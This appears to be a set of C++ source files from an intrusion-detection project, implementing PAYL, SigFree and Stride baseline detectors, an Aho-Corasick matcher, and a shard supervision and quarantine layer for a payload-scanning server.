// Training computes the mean and standard deviation of each n-gram's
// relative frequency over benign payloads (binned by payload length).
// Scoring uses the simplified Mahalanobis distance
//   d(x) = sum_i |x_i - mean_i| / (stddev_i + smoothing).
// The paper cites Kolesnikov & Lee's blended worms as evidence that such
// detectors are evadable by text malware that mimics normal traffic —
// reproduced in the tab_baseline_evasion bench with textcode::blend.
// The 2-gram model resists the naive 1-gram blend (the bigram structure
// of padding does not match prose), at 256x the model size — the
// arms-race step Kolesnikov & Lee then counter with full polymorphic
// blending.

#include <cstdint>
#include <vector>

#include "mel/util/bytes.hpp"

namespace mel::baselines {

struct PaylConfig {
  /// n-gram order: 1 (PAYL's default byte model) or 2 (bigram model).
  int ngram = 1;
  /// Smoothing added to each stddev (PAYL's alpha factor).
  double smoothing = 0.001;
  /// Alarm threshold: mean + threshold_sigmas * stddev of the training
  /// scores (robust to single training outliers, unlike a max-based cut).
  double threshold_sigmas = 5.0;
};

struct PaylResult {
  bool alarm = false;
  double score = 0.0;
  double threshold = 0.0;
};

class PaylDetector {
 public:
  explicit PaylDetector(PaylConfig config = {});

  /// Trains the per-length-bin models on benign payloads and calibrates
  /// the alarm threshold on the training scores.
  void train(const std::vector<util::ByteBuffer>& benign);

  [[nodiscard]] bool trained() const noexcept { return !bins_.empty(); }
  [[nodiscard]] PaylResult scan(util::ByteView payload) const;
  /// Raw simplified-Mahalanobis score (exposed for the evasion bench).
  [[nodiscard]] double score(util::ByteView payload) const;

 private:
  struct Bin {
    std::vector<double> mean;    ///< Size 256^ngram when populated.
    std::vector<double> stddev;
    double score_mean = 0.0;    ///< Mean of training scores.
    double score_stddev = 0.0;  ///< Stddev of training scores.
    std::size_t samples = 0;
  };
  [[nodiscard]] std::size_t dimensions() const noexcept;
  [[nodiscard]] std::vector<double> features(util::ByteView payload) const;
  /// Length bin: floor(log2(size)), clamped.
  [[nodiscard]] static std::size_t bin_index(std::size_t size) noexcept;
  [[nodiscard]] const Bin* bin_for(std::size_t size) const noexcept;

  PaylConfig config_;
  std::vector<Bin> bins_;
};

}  // namespace mel::baselines
