#pragma once
// SigFree-style baseline (Wang, Pan, Liu, Zhu — USENIX Security 2006):
// counts *useful* instructions rather than merely valid ones.
//
// An instruction is useful when the value it defines is consumed by a
// later instruction in the same valid run (a crude def-use dataflow).
// Random text decodes into many valid instructions whose results nobody
// reads; real code chains its definitions. The paper notes SigFree
// usually keeps text scanning disabled for performance — the bench
// measures both its sensitivity and its cost on text.

#include <cstdint>

#include "mel/exec/validity.hpp"
#include "mel/util/bytes.hpp"

namespace mel::baselines {

struct SigFreeConfig {
  /// Alarm threshold on the useful-instruction count of the best run.
  /// Benign 4KB text payloads land at 10-30 useful instructions; text
  /// decrypters at 100+.
  std::int64_t useful_threshold = 40;
  /// Validity rules for run segmentation (SigFree's own pruning is close
  /// to the broad definition).
  exec::ValidityRules rules = exec::ValidityRules::dawn();
};

struct SigFreeResult {
  bool alarm = false;
  std::int64_t max_useful_count = 0;  ///< Best run's useful instructions.
  std::int64_t max_run_length = 0;    ///< Best run's raw length (== MEL).
};

class SigFreeDetector {
 public:
  explicit SigFreeDetector(SigFreeConfig config = {});

  [[nodiscard]] SigFreeResult scan(util::ByteView payload) const;

 private:
  SigFreeConfig config_;
};

}  // namespace mel::baselines
