#pragma once
// Stride baseline (Akritidis et al., IFIP SEC 2005): polymorphic sled
// detection through instruction sequence analysis.
//
// A sled must be executable from *every* byte offset within it (the worm
// cannot control where the corrupted pointer lands). Stride therefore
// scans for windows of n bytes in which execution started at any offset
// survives to the window's end. Modern register-spring worms carry no
// sled, which is why this detector — like APE — no longer catches them
// (paper Section 4.1).

#include <cstdint>

#include "mel/exec/mel.hpp"
#include "mel/util/bytes.hpp"

namespace mel::baselines {

struct StrideConfig {
  /// Sled window length in bytes (the published default region).
  std::size_t window = 30;
  /// Validity rules for "survives". Stride's instruction analysis rejects
  /// privileged/trapping instructions inside a sled (a sled byte that
  /// faults kills the worm), so it gets the broad binary-oriented rules —
  /// though still none of the text-specific knowledge.
  exec::ValidityRules rules = exec::ValidityRules::dawn();
};

struct StrideResult {
  bool alarm = false;
  std::size_t sled_offset = 0;  ///< Start of the first detected sled.
  std::size_t sled_length = 0;  ///< Longest fully-surviving window run.
};

class StrideDetector {
 public:
  explicit StrideDetector(StrideConfig config = {});

  [[nodiscard]] StrideResult scan(util::ByteView payload) const;

 private:
  StrideConfig config_;
};

}  // namespace mel::baselines
