#include "mel/baselines/aho_corasick.hpp"

#include <cassert>
#include <deque>

namespace mel::baselines {

std::size_t AhoCorasick::add_pattern(util::ByteView pattern) {
  assert(!built_);
  assert(!pattern.empty());
  std::int32_t node = 0;
  for (std::uint8_t byte : pattern) {
    std::int32_t child = nodes_[node].children[byte];
    if (child < 0) {
      child = static_cast<std::int32_t>(nodes_.size());
      nodes_.emplace_back();  // May reallocate: write via fresh indexing.
      nodes_[node].children[byte] = child;
    }
    node = child;
  }
  const auto id = pattern_lengths_.size();
  nodes_[node].ids.push_back(static_cast<std::int32_t>(id));
  pattern_lengths_.push_back(pattern.size());
  return id;
}

void AhoCorasick::build() {
  assert(!built_);
  std::deque<std::int32_t> queue;
  // Depth-1 nodes fail to the root; missing root children loop to root.
  for (int byte = 0; byte < 256; ++byte) {
    std::int32_t& child = nodes_[0].children[byte];
    if (child < 0) {
      child = 0;
    } else {
      nodes_[child].fail = 0;
      queue.push_back(child);
    }
  }
  // BFS: children inherit failure transitions (goto-function automaton:
  // missing edges are filled with the failure target's edge, giving O(1)
  // per input byte with no failure-chasing at match time).
  while (!queue.empty()) {
    const std::int32_t node = queue.front();
    queue.pop_front();
    const std::int32_t fail = nodes_[node].fail;
    nodes_[node].output_link =
        !nodes_[fail].ids.empty() ? fail : nodes_[fail].output_link;
    for (int byte = 0; byte < 256; ++byte) {
      const std::int32_t child = nodes_[node].children[byte];
      const std::int32_t fail_child = nodes_[fail].children[byte];
      if (child < 0) {
        nodes_[node].children[byte] = fail_child;
      } else {
        nodes_[child].fail = fail_child;
        queue.push_back(child);
      }
    }
  }
  built_ = true;
}

std::vector<AhoCorasick::Match> AhoCorasick::find_all(
    util::ByteView text) const {
  assert(built_);
  std::vector<Match> matches;
  std::int32_t node = 0;
  for (std::size_t i = 0; i < text.size(); ++i) {
    node = nodes_[node].children[text[i]];
    for (std::int32_t hit = node; hit >= 0;
         hit = nodes_[hit].output_link) {
      for (const std::int32_t id : nodes_[hit].ids) {
        matches.push_back(Match{
            static_cast<std::size_t>(id),
            i + 1 - pattern_lengths_[static_cast<std::size_t>(id)]});
      }
    }
  }
  return matches;
}

AhoCorasick::FirstMatch AhoCorasick::find_first(util::ByteView text) const {
  assert(built_);
  FirstMatch result;
  std::int32_t node = 0;
  for (std::size_t i = 0; i < text.size(); ++i) {
    node = nodes_[node].children[text[i]];
    std::int32_t hit = node;
    if (nodes_[hit].ids.empty()) hit = nodes_[hit].output_link;
    if (hit >= 0 && !nodes_[hit].ids.empty()) {
      const auto id = static_cast<std::size_t>(nodes_[hit].ids.front());
      result.found = true;
      result.match = Match{id, i + 1 - pattern_lengths_[id]};
      return result;
    }
  }
  return result;
}

}  // namespace mel::baselines
