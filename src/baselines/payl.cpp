#include "mel/baselines/payl.hpp"

#include <cassert>
#include <cmath>

namespace mel::baselines {

PaylDetector::PaylDetector(PaylConfig config) : config_(config) {
  assert(config_.ngram == 1 || config_.ngram == 2);
}

std::size_t PaylDetector::dimensions() const noexcept {
  return config_.ngram == 1 ? 256u : 256u * 256u;
}

std::vector<double> PaylDetector::features(util::ByteView payload) const {
  std::vector<double> freq(dimensions(), 0.0);
  if (config_.ngram == 1) {
    if (payload.empty()) return freq;
    for (std::uint8_t b : payload) freq[b] += 1.0;
    for (double& f : freq) f /= static_cast<double>(payload.size());
  } else {
    if (payload.size() < 2) return freq;
    for (std::size_t i = 0; i + 1 < payload.size(); ++i) {
      freq[static_cast<std::size_t>(payload[i]) * 256 + payload[i + 1]] +=
          1.0;
    }
    const auto grams = static_cast<double>(payload.size() - 1);
    for (double& f : freq) f /= grams;
  }
  return freq;
}

std::size_t PaylDetector::bin_index(std::size_t size) noexcept {
  std::size_t bin = 0;
  while (size > 1 && bin < 31) {
    size >>= 1;
    ++bin;
  }
  return bin;
}

const PaylDetector::Bin* PaylDetector::bin_for(std::size_t size) const noexcept {
  const std::size_t index = bin_index(size);
  // Fall back to the nearest populated bin.
  for (std::size_t delta = 0; delta < bins_.size(); ++delta) {
    if (index >= delta && index - delta < bins_.size() &&
        bins_[index - delta].samples > 0) {
      return &bins_[index - delta];
    }
    if (index + delta < bins_.size() && bins_[index + delta].samples > 0) {
      return &bins_[index + delta];
    }
  }
  return nullptr;
}

void PaylDetector::train(const std::vector<util::ByteBuffer>& benign) {
  assert(!benign.empty());
  bins_.assign(32, Bin{});
  const std::size_t dim = dimensions();

  // First pass: means.
  std::vector<std::vector<double>> per_sample;
  per_sample.reserve(benign.size());
  for (const util::ByteBuffer& payload : benign) {
    per_sample.push_back(features(payload));
    Bin& bin = bins_[bin_index(payload.size())];
    if (bin.mean.empty()) {
      bin.mean.assign(dim, 0.0);
      bin.stddev.assign(dim, 0.0);
    }
    ++bin.samples;
    for (std::size_t i = 0; i < dim; ++i) {
      bin.mean[i] += per_sample.back()[i];
    }
  }
  for (Bin& bin : bins_) {
    if (bin.samples == 0) continue;
    for (double& m : bin.mean) m /= static_cast<double>(bin.samples);
  }
  // Second pass: standard deviations.
  for (std::size_t s = 0; s < benign.size(); ++s) {
    Bin& bin = bins_[bin_index(benign[s].size())];
    for (std::size_t i = 0; i < dim; ++i) {
      const double diff = per_sample[s][i] - bin.mean[i];
      bin.stddev[i] += diff * diff;
    }
  }
  for (Bin& bin : bins_) {
    if (bin.samples == 0) continue;
    for (double& sd : bin.stddev) {
      sd = std::sqrt(sd / static_cast<double>(bin.samples));
    }
  }
  // Calibration pass: mean and stddev of the benign training scores.
  std::vector<double> sums(bins_.size(), 0.0);
  std::vector<double> squares(bins_.size(), 0.0);
  for (std::size_t s = 0; s < benign.size(); ++s) {
    const std::size_t index = bin_index(benign[s].size());
    Bin& bin = bins_[index];
    double sample_score = 0.0;
    for (std::size_t i = 0; i < dim; ++i) {
      sample_score += std::fabs(per_sample[s][i] - bin.mean[i]) /
                      (bin.stddev[i] + config_.smoothing);
    }
    sums[index] += sample_score;
    squares[index] += sample_score * sample_score;
  }
  for (std::size_t index = 0; index < bins_.size(); ++index) {
    Bin& bin = bins_[index];
    if (bin.samples == 0) continue;
    const auto count = static_cast<double>(bin.samples);
    bin.score_mean = sums[index] / count;
    bin.score_stddev = std::sqrt(
        std::max(0.0, squares[index] / count -
                          bin.score_mean * bin.score_mean));
  }
}

double PaylDetector::score(util::ByteView payload) const {
  const Bin* bin = bin_for(payload.size());
  if (bin == nullptr || bin->mean.empty()) return 0.0;
  const std::vector<double> freq = features(payload);
  double total = 0.0;
  for (std::size_t i = 0; i < freq.size(); ++i) {
    total += std::fabs(freq[i] - bin->mean[i]) /
             (bin->stddev[i] + config_.smoothing);
  }
  return total;
}

PaylResult PaylDetector::scan(util::ByteView payload) const {
  PaylResult result;
  const Bin* bin = bin_for(payload.size());
  if (bin == nullptr) return result;
  result.score = score(payload);
  result.threshold =
      bin->score_mean + config_.threshold_sigmas * bin->score_stddev;
  result.alarm = result.score > result.threshold;
  return result;
}

}  // namespace mel::baselines
