#include "mel/super/quarantine.hpp"

namespace mel::super {

Quarantine::Quarantine(QuarantineConfig config) : config_(config) {}

std::uint32_t Quarantine::record_offense(
    const persist::Fingerprint& fingerprint) {
  std::uint32_t count = 0;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    auto it = offenders_.find(fingerprint);
    if (it == offenders_.end()) {
      if (offenders_.size() >= config_.capacity && !order_.empty()) {
        const persist::Fingerprint oldest = order_.front();
        order_.pop_front();
        const auto evicted = offenders_.find(oldest);
        if (evicted != offenders_.end()) {
          if (evicted->second >= config_.quarantine_after) --quarantined_;
          offenders_.erase(evicted);
        }
        evictions_.fetch_add(1, std::memory_order_relaxed);
        eviction_counter_.inc();
      }
      it = offenders_.emplace(fingerprint, 0u).first;
      order_.push_back(fingerprint);
    }
    count = ++it->second;
    if (count == config_.quarantine_after) ++quarantined_;
    entries_gauge_.set(static_cast<std::int64_t>(quarantined_));
    tracked_gauge_.set(static_cast<std::int64_t>(offenders_.size()));
  }
  offenses_.fetch_add(1, std::memory_order_relaxed);
  offense_counter_.inc();
  return count;
}

bool Quarantine::is_quarantined(const persist::Fingerprint& fingerprint) const {
  std::lock_guard<std::mutex> lock(mutex_);
  const auto it = offenders_.find(fingerprint);
  return it != offenders_.end() && it->second >= config_.quarantine_after;
}

void Quarantine::record_refusal() noexcept {
  refusals_.fetch_add(1, std::memory_order_relaxed);
  refusal_counter_.inc();
}

std::size_t Quarantine::size() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return quarantined_;
}

std::size_t Quarantine::tracked() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return offenders_.size();
}

void Quarantine::bind_metrics(obs::MetricsRegistry& registry) {
  entries_gauge_ = registry.gauge("mel_quarantine_entries",
                                  "Fingerprints currently quarantined.");
  tracked_gauge_ =
      registry.gauge("mel_quarantine_tracked",
                     "Fingerprints tracked (including sub-threshold "
                     "offenders).");
  offense_counter_ = registry.counter(
      "mel_quarantine_offenses_total",
      "Shard-wedge offenses charged to payload fingerprints.");
  refusal_counter_ = registry.counter(
      "mel_quarantine_refusals_total",
      "Scan requests refused because their payload is quarantined.");
  eviction_counter_ = registry.counter(
      "mel_quarantine_evictions_total",
      "Tracked fingerprints evicted at capacity (FIFO).");
}

}  // namespace mel::super
