#include "mel/super/supervision.hpp"

#include <string>

namespace mel::super {

namespace {

using TimePoint = std::chrono::steady_clock::time_point;

std::int64_t to_ns(TimePoint tp) noexcept {
  return std::chrono::duration_cast<std::chrono::nanoseconds>(
             tp.time_since_epoch())
      .count();
}

TimePoint from_ns(std::int64_t ns) noexcept {
  return TimePoint(std::chrono::duration_cast<TimePoint::duration>(
      std::chrono::nanoseconds(ns)));
}

}  // namespace

const char* shard_health_name(ShardHealth health) noexcept {
  switch (health) {
    case ShardHealth::kHealthy:
      return "healthy";
    case ShardHealth::kCondemned:
      return "condemned";
    case ShardHealth::kRebuilding:
      return "rebuilding";
  }
  return "unknown";
}

// --- SupervisionTable -------------------------------------------------------

SupervisionTable::SupervisionTable(std::size_t shards)
    : slots_(new Slot[shards]), size_(shards) {}

void SupervisionTable::heartbeat(std::size_t shard, TimePoint now) noexcept {
  Slot& slot = slots_[shard];
  slot.beats.fetch_add(1, std::memory_order_relaxed);
  slot.last_beat_ns.store(to_ns(now), std::memory_order_release);
}

void SupervisionTable::begin_scan(std::size_t shard,
                                  const persist::Fingerprint& fingerprint,
                                  TimePoint start,
                                  std::chrono::nanoseconds deadline) noexcept {
  Slot& slot = slots_[shard];
  // Seqlock write: the fields only change while the sequence is even
  // (no scan in flight), so a reader holding one odd sequence across
  // its whole read saw a consistent record.
  slot.fp_lo.store(fingerprint.lo, std::memory_order_relaxed);
  slot.fp_hi.store(fingerprint.hi, std::memory_order_relaxed);
  slot.fp_length.store(fingerprint.length, std::memory_order_relaxed);
  slot.scan_start_ns.store(to_ns(start), std::memory_order_relaxed);
  slot.scan_deadline_ns.store(deadline.count(), std::memory_order_relaxed);
  slot.scan_seq.fetch_add(1, std::memory_order_release);  // Now odd.
}

void SupervisionTable::end_scan(std::size_t shard) noexcept {
  slots_[shard].scan_seq.fetch_add(1, std::memory_order_release);  // Even.
}

bool SupervisionTable::condemned(std::size_t shard) const noexcept {
  return health(shard) == ShardHealth::kCondemned;
}

void SupervisionTable::mark_exited(std::size_t shard) noexcept {
  slots_[shard].exited.store(true, std::memory_order_release);
}

std::optional<SupervisionTable::ScanObservation>
SupervisionTable::observe_scan(std::size_t shard) const noexcept {
  const Slot& slot = slots_[shard];
  const std::uint64_t before = slot.scan_seq.load(std::memory_order_acquire);
  if ((before & 1) == 0) return std::nullopt;  // Idle.
  ScanObservation observation;
  observation.fingerprint.lo = slot.fp_lo.load(std::memory_order_relaxed);
  observation.fingerprint.hi = slot.fp_hi.load(std::memory_order_relaxed);
  observation.fingerprint.length =
      slot.fp_length.load(std::memory_order_relaxed);
  observation.start =
      from_ns(slot.scan_start_ns.load(std::memory_order_relaxed));
  observation.deadline = std::chrono::nanoseconds(
      slot.scan_deadline_ns.load(std::memory_order_relaxed));
  std::atomic_thread_fence(std::memory_order_acquire);
  const std::uint64_t after = slot.scan_seq.load(std::memory_order_acquire);
  if (after != before) return std::nullopt;  // Torn; next tick settles.
  return observation;
}

std::uint64_t SupervisionTable::heartbeats(std::size_t shard) const noexcept {
  return slots_[shard].beats.load(std::memory_order_relaxed);
}

TimePoint SupervisionTable::last_heartbeat(std::size_t shard) const noexcept {
  return from_ns(slots_[shard].last_beat_ns.load(std::memory_order_acquire));
}

ShardHealth SupervisionTable::health(std::size_t shard) const noexcept {
  return static_cast<ShardHealth>(
      slots_[shard].health.load(std::memory_order_acquire));
}

void SupervisionTable::set_health(std::size_t shard,
                                  ShardHealth health) noexcept {
  slots_[shard].health.store(static_cast<std::uint8_t>(health),
                             std::memory_order_release);
}

bool SupervisionTable::exited(std::size_t shard) const noexcept {
  return slots_[shard].exited.load(std::memory_order_acquire);
}

void SupervisionTable::reset_for_rebuild(std::size_t shard,
                                         TimePoint now) noexcept {
  Slot& slot = slots_[shard];
  // A wedged scan never ran end_scan; settle the seqlock back to even
  // (the old thread is joined, so no writer races this).
  if ((slot.scan_seq.load(std::memory_order_acquire) & 1) != 0) {
    slot.scan_seq.fetch_add(1, std::memory_order_release);
  }
  slot.last_beat_ns.store(to_ns(now), std::memory_order_release);
  slot.exited.store(false, std::memory_order_release);
  slot.generation.fetch_add(1, std::memory_order_release);
  slot.health.store(static_cast<std::uint8_t>(ShardHealth::kHealthy),
                    std::memory_order_release);
}

std::uint64_t SupervisionTable::generation(std::size_t shard) const noexcept {
  return slots_[shard].generation.load(std::memory_order_acquire);
}

// --- SupervisorConfig -------------------------------------------------------

util::Status SupervisorConfig::validate() const {
  if (heartbeat_interval.count() < 1) {
    return util::Status::invalid_config(
        "SupervisorConfig::heartbeat_interval must be >= 1ms");
  }
  if (missed_heartbeats == 0) {
    return util::Status::invalid_config(
        "SupervisorConfig::missed_heartbeats must be >= 1");
  }
  if (stall_grace < 1.0) {
    return util::Status::invalid_config(
        "SupervisorConfig::stall_grace must be >= 1.0 (the scan's own "
        "deadline stays authoritative)");
  }
  if (stall_timeout.count() < 1) {
    return util::Status::invalid_config(
        "SupervisorConfig::stall_timeout must be >= 1ms");
  }
  if (quarantine_after == 0) {
    return util::Status::invalid_config(
        "SupervisorConfig::quarantine_after must be >= 1");
  }
  if (quarantine_capacity == 0) {
    return util::Status::invalid_config(
        "SupervisorConfig::quarantine_capacity must be >= 1");
  }
  if (rebuild_deadline.count() < 1) {
    return util::Status::invalid_config(
        "SupervisorConfig::rebuild_deadline must be >= 1ms");
  }
  return brownout.validate();
}

// --- Supervisor -------------------------------------------------------------

Supervisor::Supervisor(SupervisorConfig config, std::size_t shards)
    : config_(std::move(config)),
      table_(shards),
      quarantine_(QuarantineConfig{
          .quarantine_after = config_.quarantine_after,
          .capacity = config_.quarantine_capacity,
      }),
      brownout_(config_.brownout) {}

Supervisor::TickReport Supervisor::tick(
    std::chrono::steady_clock::time_point now) {
  ticks_.fetch_add(1, std::memory_order_relaxed);
  tick_counter_.inc();
  if (first_tick_ == TimePoint{}) first_tick_ = now;

  TickReport report;
  report.shards.resize(table_.size());
  for (std::size_t i = 0; i < table_.size(); ++i) {
    ShardFinding& finding = report.shards[i];
    if (table_.health(i) != ShardHealth::kHealthy) continue;

    // Crash model: the thread returned without being condemned.
    if (table_.exited(i)) {
      finding.finding = Finding::kDead;
      deaths_.fetch_add(1, std::memory_order_relaxed);
      death_counter_.inc();
      condemned_counter_.inc();
      table_.set_health(i, ShardHealth::kCondemned);
      brownout_.record_pressure(now);
      continue;
    }

    // A scan in flight suspends the missed-beat check: a legitimate
    // long scan blocks the event loop (and its beats) by design. Only
    // a deadline overrun past the grace factor is a stall.
    if (const auto observation = table_.observe_scan(i)) {
      const std::chrono::nanoseconds deadline =
          observation->deadline.count() > 0
              ? observation->deadline
              : std::chrono::nanoseconds(config_.stall_timeout);
      const auto budget = std::chrono::nanoseconds(static_cast<std::int64_t>(
          config_.stall_grace * static_cast<double>(deadline.count())));
      if (now - observation->start > budget) {
        finding.finding = Finding::kStalled;
        finding.offender = observation->fingerprint;
        stalls_.fetch_add(1, std::memory_order_relaxed);
        stall_counter_.inc();
        condemned_counter_.inc();
        table_.set_health(i, ShardHealth::kCondemned);
        const std::uint32_t offense_count =
            quarantine_.record_offense(observation->fingerprint);
        finding.offender_quarantined =
            offense_count >= config_.quarantine_after;
        brownout_.record_pressure(now);
      }
      continue;
    }

    // Idle shard: it must keep beating.
    const auto last = table_.last_heartbeat(i);
    const auto baseline = last == TimePoint{} ? first_tick_ : last;
    const auto allowance = std::chrono::nanoseconds(
        config_.heartbeat_interval * config_.missed_heartbeats);
    if (now - baseline > allowance) {
      finding.finding = Finding::kDead;
      deaths_.fetch_add(1, std::memory_order_relaxed);
      death_counter_.inc();
      condemned_counter_.inc();
      table_.set_health(i, ShardHealth::kCondemned);
      brownout_.record_pressure(now);
    }
  }
  report.brownout = brownout_.update(now);
  return report;
}

void Supervisor::record_rebuild() noexcept {
  rebuilds_.fetch_add(1, std::memory_order_relaxed);
  rebuild_counter_.inc();
}

void Supervisor::record_rebuild_failure() noexcept {
  rebuild_failures_.fetch_add(1, std::memory_order_relaxed);
  rebuild_failure_counter_.inc();
}

void Supervisor::bind_metrics(obs::MetricsRegistry& registry) {
  tick_counter_ =
      registry.counter("mel_super_ticks_total", "Supervisor passes over the "
                                                "shard table.");
  stall_counter_ = registry.counter(
      "mel_super_stalls_detected_total",
      "Wedged scans detected (deadline overrun past the grace factor).");
  death_counter_ = registry.counter(
      "mel_super_deaths_detected_total",
      "Shards declared dead (missed heartbeats or thread exit).");
  condemned_counter_ = registry.counter(
      "mel_super_shards_condemned_total",
      "Shards condemned for crash-only teardown and rebuild.");
  rebuild_counter_ = registry.counter(
      "mel_super_shards_rebuilt_total",
      "Condemned shards rebuilt from the persisted calibration.");
  rebuild_failure_counter_ = registry.counter(
      "mel_super_rebuild_failures_total",
      "Shard rebuild attempts that failed (retried on a later tick).");
  quarantine_.bind_metrics(registry);
  brownout_.bind_metrics(registry);
}

}  // namespace mel::super
