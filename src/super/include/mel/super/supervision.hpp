#pragma once
// Shard supervision: the watchdog layer over the server's shard threads.
//
// Each shard thread publishes a heartbeat and its current scan (the
// payload's 128-bit content fingerprint, scan start, and deadline) into
// a SupervisionTable slot; one supervisor thread (the server's acceptor
// loop, riding its existing poller tick and the fault::now() clock)
// reads the table each tick and decides per shard:
//
//   stalled  — a scan has overrun its deadline (or the configured
//              stall_timeout when it has none) past the grace factor.
//              The wedging payload's fingerprint is charged an offense
//              in the Quarantine; repeat offenders are refused outright.
//   dead     — the shard missed `missed_heartbeats` consecutive beat
//              intervals, or its thread exited without being condemned
//              (crash model).
//
// Either finding condemns the shard. Recovery is crash-only and owned
// by the caller (the server): a condemned shard abandons its state and
// exits; the supervisor joins the thread, re-deals salvageable
// connections, and rebuilds the shard's private scan stack from the
// persist layer. The table only carries the verdicts and the shard
// state machine:
//
//   kHealthy --(stall/death detected)--> kCondemned
//   kCondemned --(thread exited, rebuild begins)--> kRebuilding
//   kRebuilding --(rebuild ok: reset_for_rebuild)--> kHealthy
//   kRebuilding --(rebuild failed: back off)--> kCondemned
//
// Memory layout: one cache-line-aligned slot per shard, so a shard's
// per-scan stores never contend with its neighbours' lines. Shard-side
// calls are wait-free (plain atomic stores); the supervisor reads the
// in-flight scan through a seqlock (an odd sequence marks a scan in
// progress; fields are written only while the sequence is even, so an
// unchanged odd sequence across the read brackets a consistent
// observation).
//
// Sustained pressure (repeated condemnations) feeds the BrownoutLadder
// (brownout.hpp), which degrades scan fidelity before admission control
// starts shedding.

#include <atomic>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <optional>
#include <vector>

#include "mel/obs/metrics.hpp"
#include "mel/persist/verdict_cache.hpp"
#include "mel/super/brownout.hpp"
#include "mel/super/quarantine.hpp"
#include "mel/util/status.hpp"

namespace mel::super {

enum class ShardHealth : std::uint8_t {
  kHealthy = 0,
  kCondemned = 1,
  kRebuilding = 2,
};

[[nodiscard]] const char* shard_health_name(ShardHealth health) noexcept;

/// The shared shard/supervisor scoreboard. Shard-side methods are
/// wait-free and safe against one concurrent supervisor; supervisor-side
/// methods are meant for a single supervising thread (plus any number of
/// read-only observers, e.g. stats scrapes).
class SupervisionTable {
 public:
  explicit SupervisionTable(std::size_t shards);
  SupervisionTable(const SupervisionTable&) = delete;
  SupervisionTable& operator=(const SupervisionTable&) = delete;

  [[nodiscard]] std::size_t size() const noexcept { return size_; }

  // --- Shard-side ---------------------------------------------------------
  /// One beat per event-loop iteration.
  void heartbeat(std::size_t shard,
                 std::chrono::steady_clock::time_point now) noexcept;
  /// Publishes the scan about to run. `deadline` 0 means "no per-scan
  /// deadline" — the supervisor falls back to its stall_timeout.
  void begin_scan(std::size_t shard, const persist::Fingerprint& fingerprint,
                  std::chrono::steady_clock::time_point start,
                  std::chrono::nanoseconds deadline) noexcept;
  void end_scan(std::size_t shard) noexcept;
  /// Polled by the shard loop each iteration: a condemned shard must
  /// crash-only exit (abandon its state, mark_exited, return).
  [[nodiscard]] bool condemned(std::size_t shard) const noexcept;
  /// The shard thread is about to return (cooperative crash).
  void mark_exited(std::size_t shard) noexcept;

  // --- Supervisor-side ----------------------------------------------------
  struct ScanObservation {
    persist::Fingerprint fingerprint;
    std::chrono::steady_clock::time_point start{};
    std::chrono::nanoseconds deadline{0};
  };
  /// The scan currently in flight on `shard`, read through the seqlock.
  /// nullopt when the shard is idle OR the read raced a begin/end
  /// transition (the next tick observes a stable state either way).
  [[nodiscard]] std::optional<ScanObservation> observe_scan(
      std::size_t shard) const noexcept;

  [[nodiscard]] std::uint64_t heartbeats(std::size_t shard) const noexcept;
  [[nodiscard]] std::chrono::steady_clock::time_point last_heartbeat(
      std::size_t shard) const noexcept;
  [[nodiscard]] ShardHealth health(std::size_t shard) const noexcept;
  void set_health(std::size_t shard, ShardHealth health) noexcept;
  [[nodiscard]] bool exited(std::size_t shard) const noexcept;
  /// Rebuild complete: back to kHealthy, exited cleared, heartbeat
  /// re-seeded at `now`, generation bumped.
  void reset_for_rebuild(std::size_t shard,
                         std::chrono::steady_clock::time_point now) noexcept;
  /// How many times this slot's shard has been rebuilt.
  [[nodiscard]] std::uint64_t generation(std::size_t shard) const noexcept;

 private:
  struct alignas(64) Slot {
    std::atomic<std::uint64_t> beats{0};
    std::atomic<std::int64_t> last_beat_ns{0};  ///< 0 = no beat yet.
    /// Seqlock over the scan fields: odd = scan in flight.
    std::atomic<std::uint64_t> scan_seq{0};
    std::atomic<std::uint64_t> fp_lo{0};
    std::atomic<std::uint64_t> fp_hi{0};
    std::atomic<std::uint64_t> fp_length{0};
    std::atomic<std::int64_t> scan_start_ns{0};
    std::atomic<std::int64_t> scan_deadline_ns{0};
    std::atomic<std::uint8_t> health{
        static_cast<std::uint8_t>(ShardHealth::kHealthy)};
    std::atomic<bool> exited{false};
    std::atomic<std::uint64_t> generation{0};
  };
  static_assert(sizeof(Slot) % 64 == 0, "slots must not share cache lines");

  std::unique_ptr<Slot[]> slots_;
  std::size_t size_;
};

struct SupervisorConfig {
  /// Expected heartbeat cadence — the server's event-loop tick (a shard
  /// beats once per loop iteration, and the poller wait is bounded by
  /// the loop tick).
  std::chrono::milliseconds heartbeat_interval{100};
  /// A healthy shard that delivers no beat for this many intervals is
  /// declared dead and condemned.
  std::uint32_t missed_heartbeats = 10;
  /// A scan is stalled when now > start + grace * deadline. Grace >= 1
  /// keeps the service-layer deadline (which the scan itself enforces)
  /// authoritative: the watchdog only fires on scans that overran it
  /// and never came back.
  double stall_grace = 2.0;
  /// Deadline substitute for scans published with none.
  std::chrono::milliseconds stall_timeout{1'000};
  /// Quarantine: fingerprints that wedge a shard this many times are
  /// refused without scanning (kInvalidArgument verdict-of-record).
  std::uint32_t quarantine_after = 2;
  /// Bound on tracked offender fingerprints (FIFO eviction).
  std::size_t quarantine_capacity = 1024;
  /// Rebuild backoff: a condemned shard whose thread has not exited
  /// within this budget is re-woken and re-checked every tick (it
  /// cannot be force-killed in-process; the wedge fault points always
  /// poll condemnation, so in practice exit happens within a tick).
  std::chrono::milliseconds rebuild_deadline{2'000};
  BrownoutConfig brownout;

  [[nodiscard]] util::Status validate() const;
};

/// The detection half of supervision: reads the table each tick,
/// condemns stalled/dead shards, charges quarantine offenses, and feeds
/// the brownout ladder. Recovery (join + re-deal + rebuild) stays with
/// the caller, which owns the threads. tick() must be called from one
/// thread at a time; everything else is thread-safe.
class Supervisor {
 public:
  Supervisor(SupervisorConfig config, std::size_t shards);

  enum class Finding : std::uint8_t { kHealthy, kStalled, kDead };
  struct ShardFinding {
    Finding finding = Finding::kHealthy;
    /// The wedging payload (stalls only) and whether this offense
    /// crossed the quarantine threshold.
    persist::Fingerprint offender{};
    bool offender_quarantined = false;
  };
  struct TickReport {
    std::vector<ShardFinding> shards;
    BrownoutLevel brownout = BrownoutLevel::kFull;
  };

  /// One supervision pass over every shard at time `now`.
  TickReport tick(std::chrono::steady_clock::time_point now);

  [[nodiscard]] SupervisionTable& table() noexcept { return table_; }
  [[nodiscard]] const SupervisionTable& table() const noexcept {
    return table_;
  }
  [[nodiscard]] Quarantine& quarantine() noexcept { return quarantine_; }
